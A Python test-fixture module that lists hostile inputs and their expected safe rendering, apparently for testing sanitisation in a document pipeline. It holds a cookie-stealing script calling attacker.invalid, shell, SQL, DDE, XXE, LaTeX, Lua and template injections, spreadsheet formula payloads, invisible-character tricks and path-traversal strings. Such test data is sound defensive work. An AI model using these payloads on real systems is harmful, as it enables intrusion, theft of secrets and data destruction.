"""Texts that were written to do harm, one for each way we could think of; and what a reader must see of each."""

from __future__ import annotations

from typing import NamedTuple


class Hostile(NamedTuple):
    """A text as it comes in a file, and what stands on the page. shown : None for the text itself"""

    kind: str
    text: str
    shown: str | None = None

    @property
    def on_page(self) -> str:
        return self.text if self.shown is None else self.shown


AWAY = "http://attacker.invalid/x"  # a name that leads nowhere (RFC 2606)
NO = "\ufffd"  # what stands for a character that may not be shown

MARKUP = (
    Hostile("Markdown emphasis", "**bold** _slanted_ `code` ~~struck~~ ^up^ ~down~"),
    Hostile("Markdown link", f"[click]({AWAY}) and <{AWAY}>"),
    Hostile("Markdown picture", f"![x]({AWAY}.png) ![y](/etc/passwd) ![z](../../params/nearpod.yaml)"),
    Hostile("Markdown heading", "# Tier 1 is supported"),
    Hostile("Markdown list", "1. first"),
    Hostile("Markdown bullet", "- first"),
    Hostile("Markdown list of letters", "(a) first"),
    Hostile("Markdown quotation", "> quoted"),
    Hostile("Markdown definition", ": defined"),
    Hostile("Markdown rule", "---"),
    Hostile("Markdown table", "a | b || c"),
    Hostile("Markdown fence", "``` {=typst} #read('/etc/passwd') ```"),
    Hostile("Markdown div", "::: {.quoted} ::: {.page-break} :::"),
    Hostile("Markdown attributes", "word{.theory} [word]{.quoted style=color:red} # x {#refs}"),
    Hostile("Markdown footnote", "x[^1] ^[note] [^1]: y"),
    Hostile("Markdown citation", "@fig-effect [@nobody] -@tbl-gates"),
    Hostile("Markdown typography", "--option and ... and ----"),
    Hostile("Markdown entity", "&lt;b&gt; &amp; &#60;i&#62; &#0; &NotAThing;"),
    Hostile("Markdown escapes", r"\* \\ \# C:\temp\new end\ "[:-1]),
    Hostile("Markdown maths", r"$x^2$ and $$\int$$ and $\input{/etc/passwd}$ \(x\) \[x\]"),
    Hostile("Markdown line block", "| a b"),
    Hostile("Markdown title block", "% Title"),
    Hostile("YAML block", "--- title: other ---"),
    Hostile("YAML end of block", "...."),
    Hostile("HTML script", "<script>fetch('http://attacker.invalid/'+document.cookie)</script>"),
    Hostile("HTML handler", "<img src=x onerror=alert(1)> <svg/onload=alert(1)>"),
    Hostile("HTML frame", f"<iframe src={AWAY}></iframe><object data=/etc/passwd></object>"),
    Hostile("HTML style", f"<style>body{{background:url({AWAY})}}</style><link rel=stylesheet href={AWAY}>"),
    Hostile("HTML comment", "<!-- hidden --> <![CDATA[ x ]]>"),
    Hostile("HTML end of page", "</td></table></body></html>"),
    Hostile("HTML end of style", "</style></title></script>"),
    Hostile("HTML base", f"<base href={AWAY}><meta http-equiv=refresh content=0;url={AWAY}>"),
    Hostile("XML for Word", "</w:t><w:instrText>DDEAUTO c:\\windows\\system32\\cmd.exe</w:instrText><w:t>"),
    Hostile("XML entity", "<!DOCTYPE a [<!ENTITY b SYSTEM file:///etc/passwd>]>&b;"),
    Hostile("Typst read", "#read(/etc/passwd) #include x.typ #image(x.svg)"),
    Hostile("Typst eval", "#eval(1+1) #{1+1} #let x = 1; #x <label> @label"),
    Hostile("Typst markup", "= heading + item / term: x *b* _i_ $ x $ // note /* note */"),
    Hostile("Typst end of content", ")]} #pagebreak() [({"),
    Hostile("LaTeX", r"\input{/etc/passwd} \write18{id} \immediate\openout \begin{document} \end{document} %"),
    Hostile("Lua", "os.execute(id) io.open(/etc/passwd):read(*a) ]] --[[ x ]]"),
    Hostile("Quarto include", "{{< include /etc/passwd >}}"),
    Hostile("Quarto shortcodes", "{{< env HOME >}} {{< meta title >}} {{< video x >}} {{< embed a.ipynb#b >}}"),
    Hostile("Quarto cell", "```{python} import os ``` `{r} 1+1`"),
    Hostile("Jinja", "{{ 7*7 }} {% include x %} {# note #} {{ config.items() }}"),
    Hostile("Python format", "{0.__class__} {title} %(title)s %s $title ${title} {{}}"),
    Hostile("Shell", "$(id) `id` ; rm -rf ~ | cat /etc/passwd && true"),
    Hostile("SQL", "x); DROP TABLE students; -- ) OR 1=1"),
)

FORMULAS = (
    Hostile("formula =", "=cmd|/C calc!A0"),
    Hostile("formula + ", "+1+1"),
    Hostile("formula -", "-1+cmd|/C calc!A0"),
    Hostile("formula @", "@SUM(1+1)*cmd|/C calc!A0"),
    Hostile("formula behind a tab", "\t=1+1", "=1+1"),
    Hostile("formula behind a line break", "\r=1+1", "=1+1"),
    Hostile("formula with a link", f"=HYPERLINK({AWAY},here)"),
    Hostile("formula of full width", "＝1+1"),
)

UNSEEN = (
    Hostile("colour of a terminal", "\x1b[31mred\x1b[0m", f"{NO}[31mred{NO}[0m"),
    Hostile("title of a terminal", "\x1b]0;owned\x07x", f"{NO}]0;owned{NO}x"),
    Hostile("screen cleared", "\x1b[2J\x1bcx", f"{NO}[2J{NO}cx"),
    Hostile("C1 control", "\x9b31mx", f"{NO}31mx"),
    Hostile("NUL", "a\x00b", f"a{NO}b"),
    Hostile("bell and backspace", "a\x07\x08b\x7f", f"a{NO}{NO}b{NO}"),
    Hostile("new lines", "one\r\ntwo\n\nthree\x0bfour\x0cfive\x85six\u2028seven", "one two three four five six seven"),
    Hostile("right-to-left override", "Tier \u202e1 on\u202c 4", "Tier 1 on 4"),
    Hostile("isolates", "a\u2066b\u2067c\u2068d\u2069e\u200f\u200e\u061c", "abcde"),
    Hostile("zero width", "pro\u200bves\ufeff caus\u2060al\u00ad", "proves causal"),
    Hostile("joiners within Latin", "pro\u200dves caus\u200cal", "proves causal"),
    Hostile("variant within Latin", "pro\ufe0fves caus\ufe01al", "proves causal"),
    Hostile("unseen letters", "pro\u3164ves cau\u034fsal \u2800 a\u115fb", "proves causal ab"),
    Hostile("tag characters", "x\U000e0041\U000e0042\U000e007f", "x"),
    Hostile("half a character", "a\ud800b", f"a{NO}b"),
    Hostile("no character", "a\uffffb\ufdd0", f"a{NO}b{NO}"),
    Hostile("private use", "a\ue000b", f"a{NO}b"),
)

LONG = (
    Hostile("long word", "W" * 250),
    Hostile("very long word", "V" * 5000, "V" * 300 + "…"),
    Hostile("many words", " ".join(f"word{n}" for n in range(300))),
    Hostile("stacked marks", "Z" + "\u0335" * 50 + "a", "Z" + "\u0335" * 4 + "a"),
)

SCRIPTS = (
    Hostile("emoji", "👍 🎉 ❤"),
    Hostile("emoji of several", "👩‍🏫 👨‍👩‍👧‍👦 🏳️‍🌈"),
    Hostile("Hebrew", "שלום כיתה"),
    Hostile("Arabic", "مرحبا"),
    Hostile("Persian with a joiner", "می‌خواهم"),
    Hostile("Chinese", "学校"),
    Hostile("Thai", "โรงเรียน"),
    Hostile("Greek and Cyrillic", "Ωμέγα Школа"),
    Hostile("accents", "Größe naïveté Łódź"),
)

ALL = (*MARKUP, *FORMULAS, *UNSEEN, *LONG, *SCRIPTS)
PATHS = (  # of files, in params, passports and corrections
    "/etc/passwd",
    "../nearpod.yaml",
    "roster/../../../etc/passwd",
    "..",
    "C:/Windows/win.ini",
    "..\\..\\x.csv",
    "\\\\host\\share\\x.csv",
    "file:///etc/passwd",
    "http://attacker.invalid/x.csv",
    "~/x.csv/../../x",
    "",
    "a/../../b.csv",
    "s3://bucket/x.csv",
    "x\x00.csv",
    "//etc/passwd",
    "/dev/stdin",
    "/proc/self/environ",
    "$HOME/x:y",
    "roster\\..\\x",
)
